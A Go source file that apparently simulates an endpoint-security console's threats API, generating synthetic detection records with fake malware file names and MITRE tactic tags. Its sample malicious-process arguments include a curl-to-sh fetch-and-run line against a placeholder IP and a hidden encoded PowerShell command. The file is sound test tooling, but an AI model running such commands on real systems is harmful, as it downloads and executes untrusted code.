package simulator

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
)

// threatsEndpoint serves GET /threats (reference §6.5, objects §8.1).
var threatsEndpoint = &listEndpoint{
	spec: &listSpec{
		path: "/threats", maxLimit: 1000, sortable: []string{"id", "createdAt", "updatedAt"}, defaultSort: "id",
		filters: map[string]paramKind{
			"ids": kindIDs, "accountIds": kindIDs, "siteIds": kindIDs, "groupIds": kindIDs, "agentIds": kindIDs,
			"createdAt": kindTime, "updatedAt": kindTime, "resolved": kindBools,
			"confidenceLevels": kindStrings, "confidenceLevelsNin": kindStrings,
			"incidentStatuses": kindStrings, "incidentStatusesNin": kindStrings,
			"analystVerdicts": kindStrings, "analystVerdictsNin": kindStrings,
			"mitigationStatuses": kindStrings, "mitigationStatusesNin": kindStrings,
			"classifications": kindStrings, "classificationsNin": kindStrings,
			"osTypes": kindStrings, "osTypesNin": kindStrings,
			"computerName__contains": kindStrings, "displayName": kindStrings,
		},
		enums: map[string][]string{
			"confidenceLevels": threatConfidence, "confidenceLevelsNin": threatConfidence,
			"incidentStatuses": threatIncident, "incidentStatusesNin": threatIncident,
			"analystVerdicts": threatVerdict, "analystVerdictsNin": threatVerdict,
			"mitigationStatuses": threatMitigation, "mitigationStatusesNin": threatMitigation,
			"osTypes": osTypeValues, "osTypesNin": osTypeValues,
		},
		unsupported: []string{
			"tenant", "storylines", "collectionIds", "contentHashes", "externalTicketIds",
			"classificationSources", "classificationSourcesNin", "engines", "enginesNin", "detectionEngines",
			"detectionEnginesNin", "initiatedBy", "initiatedByNin", "agentMachineTypes", "agentMachineTypesNin",
			"agentVersions", "agentVersionsNin", "osArchs", "osNames", "osNamesNin", "agentIsActive", "agentTagsData",
			"hasAgentTags", "noteExists", "failedActions", "rebootRequired", "pendingActions", "externalTicketExists",
			"mitigatedPreemptively", "query", "countsFor", "contentHash__contains", "threatDetails__contains",
			"filePath__contains", "uuid__contains", "detectionAgentVersion__contains", "realtimeAgentVersion__contains",
			"detectionAgentDomain__contains", "commandLineArguments__contains", "initiatedByUsername__contains",
			"storyline__contains", "originatedProcess__contains", "publisherName__contains", "signerIdentity__contains",
			"externalTicketId__contains", "groupIdsNin", "siteIdsNin", "accountIdsNin", "idsNin", "agentIdsNin",
		},
		knownSorts: []string{"mitigationStatus", "fileDisplayName", "agentVersion", "agentMachineType", "siteId", "siteName",
			"agentComputerName", "filePath", "contentHash", "collectionId", "classification", "createdDate", "cloudAccount",
			"cloudImage", "cloudInstanceId", "cloudInstanceSize", "cloudLocation", "cloudNetwork"},
	},
	list: func(s *Simulator) lister { return threatLister{s.threats} },
}

var (
	threatConfidence     = []string{"malicious", "suspicious", "n/a"}
	threatConfidenceW    = []int{60, 35, 5}
	threatVerdict        = []string{"undefined", "true_positive", "false_positive", "suspicious"}
	threatVerdictDesc    = []string{"Undefined", "True positive", "False positive", "Suspicious"}
	threatVerdictW       = []int{55, 25, 12, 8}
	threatIncident       = []string{"unresolved", "in_progress", "resolved"}
	threatIncidentDesc   = []string{"Unresolved", "In progress", "Resolved"}
	threatIncidentW      = []int{50, 15, 35}
	threatMitigation     = []string{"not_mitigated", "mitigated", "marked_as_benign"}
	threatMitigationDesc = []string{"Not mitigated", "Mitigated", "Marked as benign"}
	threatMitigationW    = []int{30, 60, 10}
	osTypeValues         = []string{"windows", "windows_legacy", "macos", "linux"}
	saltThreat           = saltOf("threat")
)

// threatFile is one kind of detected file.
type threatFile struct {
	name, dir, ext, extType, class string
	signer                         string // "" = unsigned
	fileless, macro                bool
}

var (
	winThreatFiles = []threatFile{
		{name: "invoice_2024.pdf.exe", dir: `\Device\HarddiskVolume3\Users\%s\Downloads\`, ext: "EXE", extType: "Executable", class: "Trojan"},
		{name: "mimikatz.exe", dir: `\Device\HarddiskVolume3\Users\%s\AppData\Local\Temp\`, ext: "EXE", extType: "Executable", class: "Hacktool"},
		{name: "Ncat Netcat Portable - CHIP-Installer.exe", dir: `\Device\HarddiskVolume3\Users\%s\Downloads\`, ext: "EXE", extType: "Executable", class: "Malware", signer: "CHIP DIGITAL GMBH"},
		{name: "svch0st.exe", dir: `\Device\HarddiskVolume3\Windows\Temp\`, ext: "EXE", extType: "Executable", class: "Ransomware"},
		{name: "update.ps1", dir: `\Device\HarddiskVolume3\ProgramData\`, ext: "PS1", extType: "Script", class: "Malware"},
		{name: "Q3_report.docm", dir: `\Device\HarddiskVolume3\Users\%s\Documents\`, ext: "DOCM", extType: "Document", class: "Malware", macro: true},
		{name: "KMSpico_setup.exe", dir: `\Device\HarddiskVolume3\Users\%s\Downloads\`, ext: "EXE", extType: "Executable", class: "PUA", signer: "Open Source Developer"},
		{name: "powershell.exe", dir: `\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\`, ext: "EXE", extType: "Executable", class: "Malware", signer: "Microsoft Windows", fileless: true},
		{name: "AnyDesk.exe", dir: `\Device\HarddiskVolume3\Users\%s\AppData\Roaming\`, ext: "EXE", extType: "Executable", class: "PUA", signer: "philandro Software GmbH"},
	}
	macThreatFiles = []threatFile{
		{name: "Installer.dmg", dir: "/Users/%s/Downloads/", ext: "DMG", extType: "Archive", class: "Trojan"},
		{name: "AdobeFlashUpdate.pkg", dir: "/Users/%s/Downloads/", ext: "PKG", extType: "Archive", class: "PUA"},
		{name: "com.apple.updater.plist", dir: "/Users/%s/Library/LaunchAgents/", ext: "PLIST", extType: "Document", class: "Malware"},
		{name: "atomic_stealer", dir: "/private/tmp/", ext: "", extType: "Executable", class: "Infostealer"},
	}
	linuxThreatFiles = []threatFile{
		{name: "xmrig", dir: "/tmp/.X11-unix/", ext: "", extType: "Executable", class: "Malware"},
		{name: "kinsing", dir: "/var/tmp/", ext: "", extType: "Executable", class: "Trojan"},
		{name: "dropper.sh", dir: "/dev/shm/", ext: "SH", extType: "Script", class: "Malware"},
		{name: "libprocesshider.so", dir: "/usr/local/lib/", ext: "SO", extType: "Executable", class: "Rootkit"},
	}
	detectionEngineTable = [][3]string{ // key, title, classificationSource
		{"pre_execution", "On-Write Static AI", "Static"},
		{"executables", "Behavioral AI", "Behavioral"},
		{"reputation", "Reputation", "Cloud"},
		{"data_files", "Documents, Scripts", "Static"},
		{"exploits", "Anti Exploitation / Fileless", "Behavioral"},
		{"intelligence", "SentinelOne Cloud", "Cloud"},
		{"lateral_movement", "Lateral Movement", "Engine"},
	}
	legacyEngines   = []string{"On-Write DFI", "DBT - Executables", "Reputation", "On-Write DFI", "Anti Exploitation / Fileless", "SentinelOne Cloud", "Lateral Movement"}
	initiatedByVals = [][2]string{{"agent_policy", "Agent Policy"}, {"full_disk_scan", "Full Disk Scan"}, {"on_demand_scan", "On-Demand Scan"},
		{"star_active", "STAR Active"}, {"cloud_detection", "Cloud Detection"}, {"console_api", "Console API"}}
	initiatedByW   = []int{70, 8, 5, 7, 5, 5}
	indicatorTable = []threatIndicator{
		{Category: "Evasion", Description: "Indirect command was executed", IDs: []int{427}, Tactics: []tactic{{"Defense Evasion", "DEFAULT", []technique{{"https://attack.mitre.org/techniques/T1202/", "T1202"}}}}},
		{Category: "InfoStealer", Description: "This binary has keylogging capabilities.", IDs: []int{23}, Tactics: []tactic{{"Collection", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1056/001/", "T1056.001"}}}}},
		{Category: "Persistence", Description: "Autorun registry key was created", IDs: []int{97}, Tactics: []tactic{{"Persistence", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1547/001/", "T1547.001"}}}}},
		{Category: "Exploitation", Description: "Shellcode execution was detected", IDs: []int{211}, Tactics: []tactic{{"Execution", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1203/", "T1203"}}}}},
		{Category: "General", Description: "This binary imports debugger functions.", IDs: []int{6}, Tactics: []tactic{}},
		{Category: "Ransomware", Description: "Mass file encryption was detected", IDs: []int{301}, Tactics: []tactic{{"Impact", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1486/", "T1486"}}}}},
		{Category: "Discovery", Description: "Process enumerated network shares", IDs: []int{152}, Tactics: []tactic{{"Discovery", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1135/", "T1135"}}}}},
		{Category: "Injection", Description: "Process injected code into another process", IDs: []int{33, 34}, Tactics: []tactic{
			{"Defense Evasion", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1055/", "T1055"}}},
			{"Privilege Escalation", "MITRE", []technique{{"https://attack.mitre.org/techniques/T1055/", "T1055"}}}}},
	}
)

func threatFilesFor(osType string) []threatFile {
	switch osType {
	case "macos":
		return macThreatFiles
	case "linux":
		return linuxThreatFiles
	}
	return winThreatFiles
}

// threatStore is the threats stream: an evStore whose items are tied to
// base agents of agentSrc.
type threatStore struct {
	*evStore
	agents *agentStore // identity source (base agents only; immutable data)
	scope  *scopeModel
}

// threatAttrs are the filterable attributes of a threat, drawn first and
// cheaply from its PRNG; overlay state is applied on top.
type threatAttrs struct {
	agentV                                    int
	prof                                      *osProfile
	file                                      *threatFile
	confidence, verdict, incident, mitigation int
	engine, initiatedBy                       int
	state                                     *evState
}

// attrs derives threat v's attributes. Callers hold st.mu.
func (ts *threatStore) attrs(v int) (threatAttrs, *prng) {
	r := ts.rng(v, saltThreat)
	var a threatAttrs
	a.agentV = r.intn(ts.agents.base)
	a.prof = ts.agents.agentProfile(a.agentV)
	files := threatFilesFor(a.prof.osType)
	a.file = &files[r.intn(len(files))]
	a.confidence = wpick(r, threatConfidenceW)
	a.verdict = wpick(r, threatVerdictW)
	a.incident = wpick(r, threatIncidentW)
	a.mitigation = wpick(r, threatMitigationW)
	a.engine = r.intn(len(detectionEngineTable))
	a.initiatedBy = wpick(r, initiatedByW)
	if s := ts.dirty[v]; s != nil {
		a.state = s
		if s.confidence >= 0 {
			a.confidence = int(s.confidence)
		}
		if s.verdict >= 0 {
			a.verdict = int(s.verdict)
		}
		if s.incident >= 0 {
			a.incident = int(s.incident)
		}
		if s.mitigation >= 0 {
			a.mitigation = int(s.mitigation)
		}
	}
	return a, r
}

// enumMask compiles name and nameNin into a mask over table (nil = all).
func enumMask(q *listQuery, name string, table []string) []bool {
	in, nin := q.strs[name], q.strs[name+"Nin"]
	if in == nil && nin == nil {
		return nil
	}
	has := func(list []string, v string) bool {
		return slices.ContainsFunc(list, func(x string) bool { return strings.EqualFold(normEnum(x), normEnum(v)) })
	}
	mask := make([]bool, len(table))
	for i, v := range table {
		mask[i] = (in == nil || has(in, v)) && !has(nin, v)
	}
	return mask
}

// normEnum folds "In progress", "IN_PROGRESS" and "in_progress" together.
func normEnum(s string) string {
	return strings.ToLower(strings.ReplaceAll(strings.TrimSpace(s), " ", "_"))
}

func inMask(mask []bool, i int) bool { return mask == nil || mask[i] }

// containsAny reports whether s contains any of subs (case-insensitive); nil subs match.
func containsAny(s string, subs []string) bool {
	if subs == nil {
		return true
	}
	s = strings.ToLower(s)
	for _, sub := range subs {
		if sub != "" && strings.Contains(s, strings.ToLower(sub)) {
			return true
		}
	}
	return false
}

// anyFold reports whether v equals any of list case-insensitively; nil list matches.
func anyFold(list []string, v string) bool {
	return list == nil || slices.ContainsFunc(list, func(x string) bool { return strings.EqualFold(x, v) })
}

// compile turns a /threats query into an evWalk.
func (ts *threatStore) compile(q *listQuery) *evWalk {
	w := &evWalk{created: q.timeRange("createdAt"), updated: q.timeRange("updatedAt"), reported: fullRange}
	w.ids, w.hasIDs = q.ids["ids"]
	groups := ts.scope.groupsFor(q)
	agentIDs := q.ids["agentIds"]
	conf := enumMask(q, "confidenceLevels", threatConfidence)
	inc := enumMask(q, "incidentStatuses", threatIncident)
	ver := enumMask(q, "analystVerdicts", threatVerdict)
	mit := enumMask(q, "mitigationStatuses", threatMitigation)
	classes, classesNin := q.strs["classifications"], q.strs["classificationsNin"]
	osIn, osNin := q.strs["osTypes"], q.strs["osTypesNin"]
	resF, resT, _ := q.boolSet("resolved")
	names, display := q.strs["computerName__contains"], q.strs["displayName"]
	if groups == nil && agentIDs == nil && conf == nil && inc == nil && ver == nil && mit == nil && classes == nil &&
		classesNin == nil && osIn == nil && osNin == nil && resF && resT && names == nil && display == nil {
		return w
	}
	w.ok = func(v int) bool {
		a, _ := ts.attrs(v)
		resolved := a.incident == 2
		if !inMask(conf, a.confidence) || !inMask(inc, a.incident) || !inMask(ver, a.verdict) || !inMask(mit, a.mitigation) ||
			(resolved && !resT) || (!resolved && !resF) || !anyFold(classes, a.file.class) ||
			(classesNin != nil && anyFold(classesNin, a.file.class)) || !anyFold(osIn, a.prof.osType) ||
			(osNin != nil && anyFold(osNin, a.prof.osType)) || !containsAny(a.file.name, display) {
			return false
		}
		if groups != nil && !groups[a.agentV%len(groups)] {
			return false
		}
		if agentIDs != nil && !slices.Contains(agentIDs, ts.agents.idOf(a.agentV)) {
			return false
		}
		return names == nil || containsAny(ts.agents.head(a.agentV).host, names)
	}
	return w
}

// threatLister adapts threatStore to the generic list endpoint.
type threatLister struct{ ts *threatStore }

func (l threatLister) count(q *listQuery) int { return l.ts.count(l.ts.compile(q), q.canonical) }

func (l threatLister) page(q *listQuery, limit int) ([][]byte, key, bool) {
	return l.ts.page(l.ts.compile(q), q.sortBy, q.desc, q.after, limit, l.ts.render)
}

// --- JSON (§8.1); fields in sorted key order like the console ---

type threatJSON struct {
	AgentDetectionInfo threatAgentDetection `json:"agentDetectionInfo"`
	AgentRealtimeInfo  threatAgentRealtime  `json:"agentRealtimeInfo"`
	ContainerInfo      json.RawMessage      `json:"containerInfo"`
	EcsInfo            json.RawMessage      `json:"ecsInfo"`
	ID                 string               `json:"id"`
	Indicators         []threatIndicator    `json:"indicators"`
	KubernetesInfo     json.RawMessage      `json:"kubernetesInfo"`
	MitigationStatus   []mitigationAction   `json:"mitigationStatus"`
	ThreatInfo         threatInfo           `json:"threatInfo"`
	WhiteningOptions   []string             `json:"whiteningOptions"`
}

var (
	threatContainerNull  = json.RawMessage(`{"id":null,"image":null,"isContainerQuarantine":null,"labels":null,"name":null}`)
	threatKubernetesNull = json.RawMessage(`{"cluster":null,"controllerKind":null,"controllerLabels":null,"controllerName":null,"isContainerQuarantine":null,"namespace":null,"namespaceLabels":null,"node":null,"nodeLabels":null,"pod":null,"podLabels":null}`)
	threatEcsNull        = json.RawMessage(`{"clusterName":null,"serviceArn":null,"serviceName":null,"taskArn":null,"taskAvailabilityZone":null,"taskDefinitionArn":null,"taskDefinitionFamily":null,"taskDefinitionRevision":null,"type":null,"version":null}`)
)

type threatAgentDetection struct {
	AccountID                 string                    `json:"accountId"`
	AccountName               string                    `json:"accountName"`
	AgentDetectionState       *string                   `json:"agentDetectionState"`
	AgentDomain               string                    `json:"agentDomain"`
	AgentIPV4                 string                    `json:"agentIpV4"`
	AgentIPV6                 string                    `json:"agentIpV6"`
	AgentLastLoggedInUpn      *string                   `json:"agentLastLoggedInUpn"`
	AgentLastLoggedInUserMail *string                   `json:"agentLastLoggedInUserMail"`
	AgentLastLoggedInUserName string                    `json:"agentLastLoggedInUserName"`
	AgentMitigationMode       string                    `json:"agentMitigationMode"`
	AgentOsName               string                    `json:"agentOsName"`
	AgentOsRevision           string                    `json:"agentOsRevision"`
	AgentRegisteredAt         string                    `json:"agentRegisteredAt"`
	AgentUUID                 string                    `json:"agentUuid"`
	AgentVersion              string                    `json:"agentVersion"`
	CloudProviders            map[string]map[string]any `json:"cloudProviders"`
	ExternalIP                *string                   `json:"externalIp"`
	GroupID                   string                    `json:"groupId"`
	GroupName                 string                    `json:"groupName"`
	SiteID                    string                    `json:"siteId"`
	SiteName                  string                    `json:"siteName"`
}

type threatAgentRealtime struct {
	AccountID             string         `json:"accountId"`
	AccountName           string         `json:"accountName"`
	ActiveThreats         int            `json:"activeThreats"`
	AgentComputerName     string         `json:"agentComputerName"`
	AgentDecommissionedAt *bool          `json:"agentDecommissionedAt"`
	AgentDomain           string         `json:"agentDomain"`
	AgentID               string         `json:"agentId"`
	AgentInfected         bool           `json:"agentInfected"`
	AgentIsActive         bool           `json:"agentIsActive"`
	AgentIsDecommissioned bool           `json:"agentIsDecommissioned"`
	AgentMachineType      string         `json:"agentMachineType"`
	AgentMitigationMode   string         `json:"agentMitigationMode"`
	AgentNetworkStatus    string         `json:"agentNetworkStatus"`
	AgentOsName           string         `json:"agentOsName"`
	AgentOsRevision       string         `json:"agentOsRevision"`
	AgentOsType           string         `json:"agentOsType"`
	AgentUUID             string         `json:"agentUuid"`
	AgentVersion          string         `json:"agentVersion"`
	GroupID               string         `json:"groupId"`
	GroupName             string         `json:"groupName"`
	NetworkInterfaces     []netInterface `json:"networkInterfaces"`
	OperationalState      string         `json:"operationalState"`
	RebootRequired        bool           `json:"rebootRequired"`
	ScanAbortedAt         *string        `json:"scanAbortedAt"`
	ScanFinishedAt        *string        `json:"scanFinishedAt"`
	ScanStartedAt         *string        `json:"scanStartedAt"`
	ScanStatus            string         `json:"scanStatus"`
	SiteID                string         `json:"siteId"`
	SiteName              string         `json:"siteName"`
	StorageName           *string        `json:"storageName"`
	StorageType           *string        `json:"storageType"`
	UserActionsNeeded     []string       `json:"userActionsNeeded"`
}

type threatIndicator struct {
	Category    string   `json:"category"`
	Description string   `json:"description"`
	IDs         []int    `json:"ids"`
	Tactics     []tactic `json:"tactics"`
}

type tactic struct {
	Name       string      `json:"name"`
	Source     string      `json:"source"`
	Techniques []technique `json:"techniques"`
}

type technique struct {
	Link string `json:"link"`
	Name string `json:"name"`
}

type actionsCounters struct {
	Failed        int `json:"failed"`
	NotFound      int `json:"notFound"`
	PendingReboot int `json:"pendingReboot"`
	Success       int `json:"success"`
	Total         int `json:"total"`
}

type mitigationAction struct {
	Action              string           `json:"action"`
	ActionsCounters     *actionsCounters `json:"actionsCounters"`
	AgentSupportsReport bool             `json:"agentSupportsReport"`
	GroupNotFound       bool             `json:"groupNotFound"`
	LastUpdate          string           `json:"lastUpdate"`
	LatestReport        *string          `json:"latestReport"`
	MitigationEndedAt   *string          `json:"mitigationEndedAt"`
	MitigationStartedAt *string          `json:"mitigationStartedAt"`
	Status              string           `json:"status"`
}

type detectionEngine struct {
	Key   string `json:"key"`
	Title string `json:"title"`
}

type macroModule struct {
	ModuleName string `json:"moduleName"`
	Sha1       string `json:"sha1"`
}

type threatInfo struct {
	AnalystVerdict              string            `json:"analystVerdict"`
	AnalystVerdictDescription   string            `json:"analystVerdictDescription"`
	AutomaticallyResolved       bool              `json:"automaticallyResolved"`
	BrowserType                 *string           `json:"browserType"`
	CertificateID               string            `json:"certificateId"`
	Classification              string            `json:"classification"`
	ClassificationSource        string            `json:"classificationSource"`
	CloudFilesHashVerdict       string            `json:"cloudFilesHashVerdict"`
	CollectionID                string            `json:"collectionId"`
	ConfidenceLevel             string            `json:"confidenceLevel"`
	CreatedAt                   string            `json:"createdAt"`
	DetectionEngines            []detectionEngine `json:"detectionEngines"`
	DetectionType               string            `json:"detectionType"`
	Engines                     []string          `json:"engines"`
	ExternalTicketExists        bool              `json:"externalTicketExists"`
	ExternalTicketID            *string           `json:"externalTicketId"`
	FailedActions               bool              `json:"failedActions"`
	FileExtension               string            `json:"fileExtension"`
	FileExtensionType           string            `json:"fileExtensionType"`
	FilePath                    string            `json:"filePath"`
	FileSize                    int               `json:"fileSize"`
	FileVerificationType        string            `json:"fileVerificationType"`
	IdentifiedAt                string            `json:"identifiedAt"`
	IncidentStatus              string            `json:"incidentStatus"`
	IncidentStatusDescription   string            `json:"incidentStatusDescription"`
	InitiatedBy                 string            `json:"initiatedBy"`
	InitiatedByDescription      string            `json:"initiatedByDescription"`
	InitiatingUserID            *string           `json:"initiatingUserId"`
	InitiatingUsername          *string           `json:"initiatingUsername"`
	IsFileless                  bool              `json:"isFileless"`
	IsValidCertificate          bool              `json:"isValidCertificate"`
	MacroModules                []macroModule     `json:"macroModules"`
	MaliciousProcessArguments   *string           `json:"maliciousProcessArguments"`
	Md5                         *string           `json:"md5"`
	MitigatedPreemptively       bool              `json:"mitigatedPreemptively"`
	MitigationStatus            string            `json:"mitigationStatus"`
	MitigationStatusDescription string            `json:"mitigationStatusDescription"`
	OriginatorProcess           *string           `json:"originatorProcess"`
	PendingActions              bool              `json:"pendingActions"`
	ProcessUser                 string            `json:"processUser"`
	PublisherName               string            `json:"publisherName"`
	ReachedEventsLimit          bool              `json:"reachedEventsLimit"`
	RebootRequired              bool              `json:"rebootRequired"`
	RootProcessUpn              *string           `json:"rootProcessUpn"`
	Sha1                        string            `json:"sha1"`
	Sha256                      *string           `json:"sha256"`
	Storyline                   string            `json:"storyline"`
	ThreatID                    string            `json:"threatId"`
	ThreatName                  string            `json:"threatName"`
	UpdatedAt                   string            `json:"updatedAt"`
}

// render returns threat v's exact JSON. Callers hold st.mu for reading.
// agentRealtimeInfo/agentDetectionInfo come from the agent's base state
// (they do not follow ChangeAgents), so a threat's bytes change only when
// its threatInfo.updatedAt does.
func (ts *threatStore) render(v int) []byte {
	a, r := ts.attrs(v)
	ag := ts.agents.build(a.agentV, nil)
	id := ts.idOf(v)
	ids := strconv.FormatInt(id, 10)
	created := ts.createdOf(v)
	updated := ts.updatedOf(v)
	identified := created - int64(r.intn(int(90*microsPerSecond))) - 1000
	f := a.file
	eng := detectionEngineTable[a.engine]
	if f.macro {
		eng = detectionEngineTable[3]
	}
	user := ag.LastLoggedInUserName
	switch {
	case a.prof.osType == "linux":
		user = "root"
	case user == "":
		user = "SYSTEM"
	}
	path := f.dir
	if strings.Contains(path, "%s") {
		path = fmt.Sprintf(path, user)
	}
	path += f.name
	processUser := user
	if strings.HasPrefix(a.prof.osType, "windows") {
		processUser = ag.ComputerName + `\` + user
		if user == "SYSTEM" {
			processUser = `NT AUTHORITY\SYSTEM`
		}
	}
	ib := initiatedByVals[a.initiatedBy]
	ti := threatInfo{
		AnalystVerdict: threatVerdict[a.verdict], AnalystVerdictDescription: threatVerdictDesc[a.verdict],
		Classification: f.class, ClassificationSource: eng[2],
		CloudFilesHashVerdict: pick(r, []string{"black", "provider_unknown", "provider_unknown", "black"}),
		CollectionID:          strconv.FormatInt(id+2*idStride/3, 10),
		ConfidenceLevel:       threatConfidence[a.confidence],
		CreatedAt:             fmtMicros(created),
		DetectionEngines:      []detectionEngine{{Key: eng[0], Title: eng[1]}},
		DetectionType:         "dynamic",
		Engines:               []string{legacyEngines[slices.IndexFunc(detectionEngineTable, func(e [3]string) bool { return e[0] == eng[0] })]},
		FileExtension:         f.ext, FileExtensionType: f.extType, FilePath: path,
		FileSize:       4096 + r.intn(8<<20),
		IdentifiedAt:   fmtMicros(identified),
		IncidentStatus: threatIncident[a.incident], IncidentStatusDescription: threatIncidentDesc[a.incident],
		InitiatedBy: ib[0], InitiatedByDescription: ib[1],
		IsFileless: f.fileless, MacroModules: []macroModule{},
		MitigationStatus: threatMitigation[a.mitigation], MitigationStatusDescription: threatMitigationDesc[a.mitigation],
		ProcessUser: processUser, PublisherName: f.signer, CertificateID: f.signer,
		Sha1:      r.hexN(40),
		Storyline: strings.ToUpper(r.hexN(16)),
		ThreatID:  ids, ThreatName: f.name, UpdatedAt: fmtMicros(updated),
	}
	if eng[2] == "Static" || eng[2] == "Cloud" {
		ti.DetectionType = "static"
	}
	if r.chance(70) {
		ti.Sha256 = strp(r.hexN(64))
	} else {
		r.next()
	}
	if r.chance(40) {
		ti.Md5 = strp(r.hexN(32))
	} else {
		r.next()
	}
	if f.signer != "" {
		ti.FileVerificationType, ti.IsValidCertificate = "SignedVerified", true
	} else {
		ti.FileVerificationType = "NotSigned"
	}
	if f.macro {
		ti.MacroModules = []macroModule{{ModuleName: "ThisDocument", Sha1: r.hexN(40)}}
	} else {
		r.next()
	}
	if f.fileless || f.extType == "Script" {
		ti.MaliciousProcessArguments = strp(pick(r, []string{
			"-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
			"-ExecutionPolicy Bypass -File update.ps1", "-c 'curl -s http://203.0.113.7/x | sh'"}))
		origins := map[string][]string{"windows": {"explorer.exe", "WINWORD.EXE", "cmd.exe"}, "macos": {"zsh", "osascript"}, "linux": {"bash", "sshd"}}
		ti.OriginatorProcess = strp(pick(r, origins[procFamily(a.prof.osType)]))
	} else {
		r.next()
	}
	if ib[0] == "console_api" || ib[0] == "on_demand_scan" {
		ti.InitiatingUserID = strp(strconv.FormatInt(ts.scope.creator, 10))
		ti.InitiatingUsername = strp("Sim Admin")
	}
	if a.incident == 2 && a.state == nil && r.chance(30) {
		ti.AutomaticallyResolved = true
	} else {
		r.next()
	}
	if r.chance(10) {
		ti.ExternalTicketExists, ti.ExternalTicketID = true, strp(fmt.Sprintf("INC%07d", r.intn(10_000_000)))
	} else {
		r.next()
	}

	// Indicators with MITRE tactics.
	nInd := 1 + r.intn(3)
	start := r.intn(len(indicatorTable))
	inds := make([]threatIndicator, 0, nInd)
	for k := range nInd {
		inds = append(inds, indicatorTable[(start+k)%len(indicatorTable)])
	}

	// Mitigation actions follow the mitigation status.
	mitAt := created + (updated-created)/2 - 345_678
	r.next()
	if a.state != nil && a.state.mitigation >= 0 {
		mitAt = a.state.updated - 345_678
	}
	var actions []mitigationAction
	switch threatMitigation[a.mitigation] {
	case "mitigated":
		rep := "/threats/mitigation-report"
		for k, act := range []string{"kill", "quarantine"} {
			at := fmtMicros(mitAt + int64(k)*345_678)
			actions = append(actions, mitigationAction{
				Action: act, ActionsCounters: &actionsCounters{Success: 1, Total: 1}, AgentSupportsReport: true,
				LastUpdate: at, LatestReport: &rep, MitigationStartedAt: &at, MitigationEndedAt: &at, Status: "success",
			})
		}
	case "not_mitigated":
		if ag.MitigationMode == "protect" {
			at := fmtMicros(mitAt)
			actions = []mitigationAction{{Action: "kill", ActionsCounters: &actionsCounters{Failed: 1, Total: 1},
				AgentSupportsReport: true, LastUpdate: at, MitigationStartedAt: &at, MitigationEndedAt: &at, Status: "failed"}}
			ti.FailedActions = true
		}
	}
	if actions == nil {
		actions = []mitigationAction{}
	}
	whitening := []string{"hash", "path"}
	if f.signer != "" {
		whitening = append(whitening, "certificate")
	}
	if f.extType == "Script" {
		whitening = append(whitening, "file_type")
	}

	var ip4, ip6 string
	if len(ag.NetworkInterfaces) > 0 {
		ni := ag.NetworkInterfaces[0]
		if len(ni.Inet) > 0 {
			ip4 = ni.Inet[0]
		}
		if len(ni.Inet6) > 0 {
			ip6 = ni.Inet6[0]
		}
	}
	var decomAt *bool
	if ag.IsDecommissioned {
		decomAt = ptr(true)
	}
	t := threatJSON{
		AgentDetectionInfo: threatAgentDetection{
			AccountID: ag.AccountID, AccountName: ag.AccountName, AgentDetectionState: ag.DetectionState,
			AgentDomain: ag.Domain, AgentIPV4: ip4, AgentIPV6: ip6,
			AgentLastLoggedInUpn: ag.ActiveDirectory.UserPrincipalName, AgentLastLoggedInUserMail: ag.ActiveDirectory.Mail,
			AgentLastLoggedInUserName: ag.LastLoggedInUserName, AgentMitigationMode: ag.MitigationMode,
			AgentOsName: ag.OsName, AgentOsRevision: ag.OsRevision, AgentRegisteredAt: ag.RegisteredAt,
			AgentUUID: ag.UUID, AgentVersion: ag.AgentVersion, CloudProviders: ag.CloudProviders, ExternalIP: ag.ExternalIP,
			GroupID: ag.GroupID, GroupName: ag.GroupName, SiteID: ag.SiteID, SiteName: ag.SiteName,
		},
		AgentRealtimeInfo: threatAgentRealtime{
			AccountID: ag.AccountID, AccountName: ag.AccountName, ActiveThreats: ag.ActiveThreats,
			AgentComputerName: ag.ComputerName, AgentDecommissionedAt: decomAt, AgentDomain: ag.Domain, AgentID: ag.ID,
			AgentInfected: ag.Infected, AgentIsActive: ag.IsActive, AgentIsDecommissioned: ag.IsDecommissioned,
			AgentMachineType: ag.MachineType, AgentMitigationMode: ag.MitigationMode, AgentNetworkStatus: ag.NetworkStatus,
			AgentOsName: ag.OsName, AgentOsRevision: ag.OsRevision, AgentOsType: ag.OsType, AgentUUID: ag.UUID,
			AgentVersion: ag.AgentVersion, GroupID: ag.GroupID, GroupName: ag.GroupName,
			NetworkInterfaces: ag.NetworkInterfaces, OperationalState: ag.OperationalState,
			RebootRequired: ag.ThreatRebootRequired, ScanAbortedAt: ag.ScanAbortedAt, ScanFinishedAt: ag.ScanFinishedAt,
			ScanStartedAt: ag.ScanStartedAt, ScanStatus: ag.ScanStatus, SiteID: ag.SiteID, SiteName: ag.SiteName,
			StorageName: ag.StorageName, StorageType: ag.StorageType, UserActionsNeeded: ag.UserActionsNeeded,
		},
		ContainerInfo: threatContainerNull, EcsInfo: threatEcsNull, ID: ids, Indicators: inds,
		KubernetesInfo: threatKubernetesNull, MitigationStatus: actions, ThreatInfo: ti, WhiteningOptions: whitening,
	}
	return mustJSON(&t)
}

// --- mutations ---

func (ts *threatStore) add(n int, now int64) []string {
	ts.mu.Lock()
	defer ts.mu.Unlock()
	ids := make([]string, 0, n)
	for range n {
		v := ts.evStore.add(now, func(s *evState) { s.incident, s.verdict = 0, 0 })
		ids = append(ids, strconv.FormatInt(ts.idOf(v), 10))
	}
	ts.mutated()
	return ids
}

// mutate picks n threats (preferring those prefer accepts) and applies fn.
func (ts *threatStore) mutate(n int, now int64, prefer func(threatAttrs) bool, fn func(*evState, threatAttrs)) []string {
	ts.mu.Lock()
	defer ts.mu.Unlock()
	picked := ts.pick(n, func(v int) bool { a, _ := ts.attrs(v); return prefer(a) })
	ids := make([]string, 0, len(picked))
	for _, v := range picked {
		a, _ := ts.attrs(v)
		ts.touch(v, now, func(s *evState) { fn(s, a) })
		ids = append(ids, strconv.FormatInt(ts.idOf(v), 10))
	}
	ts.mutated()
	return ids
}
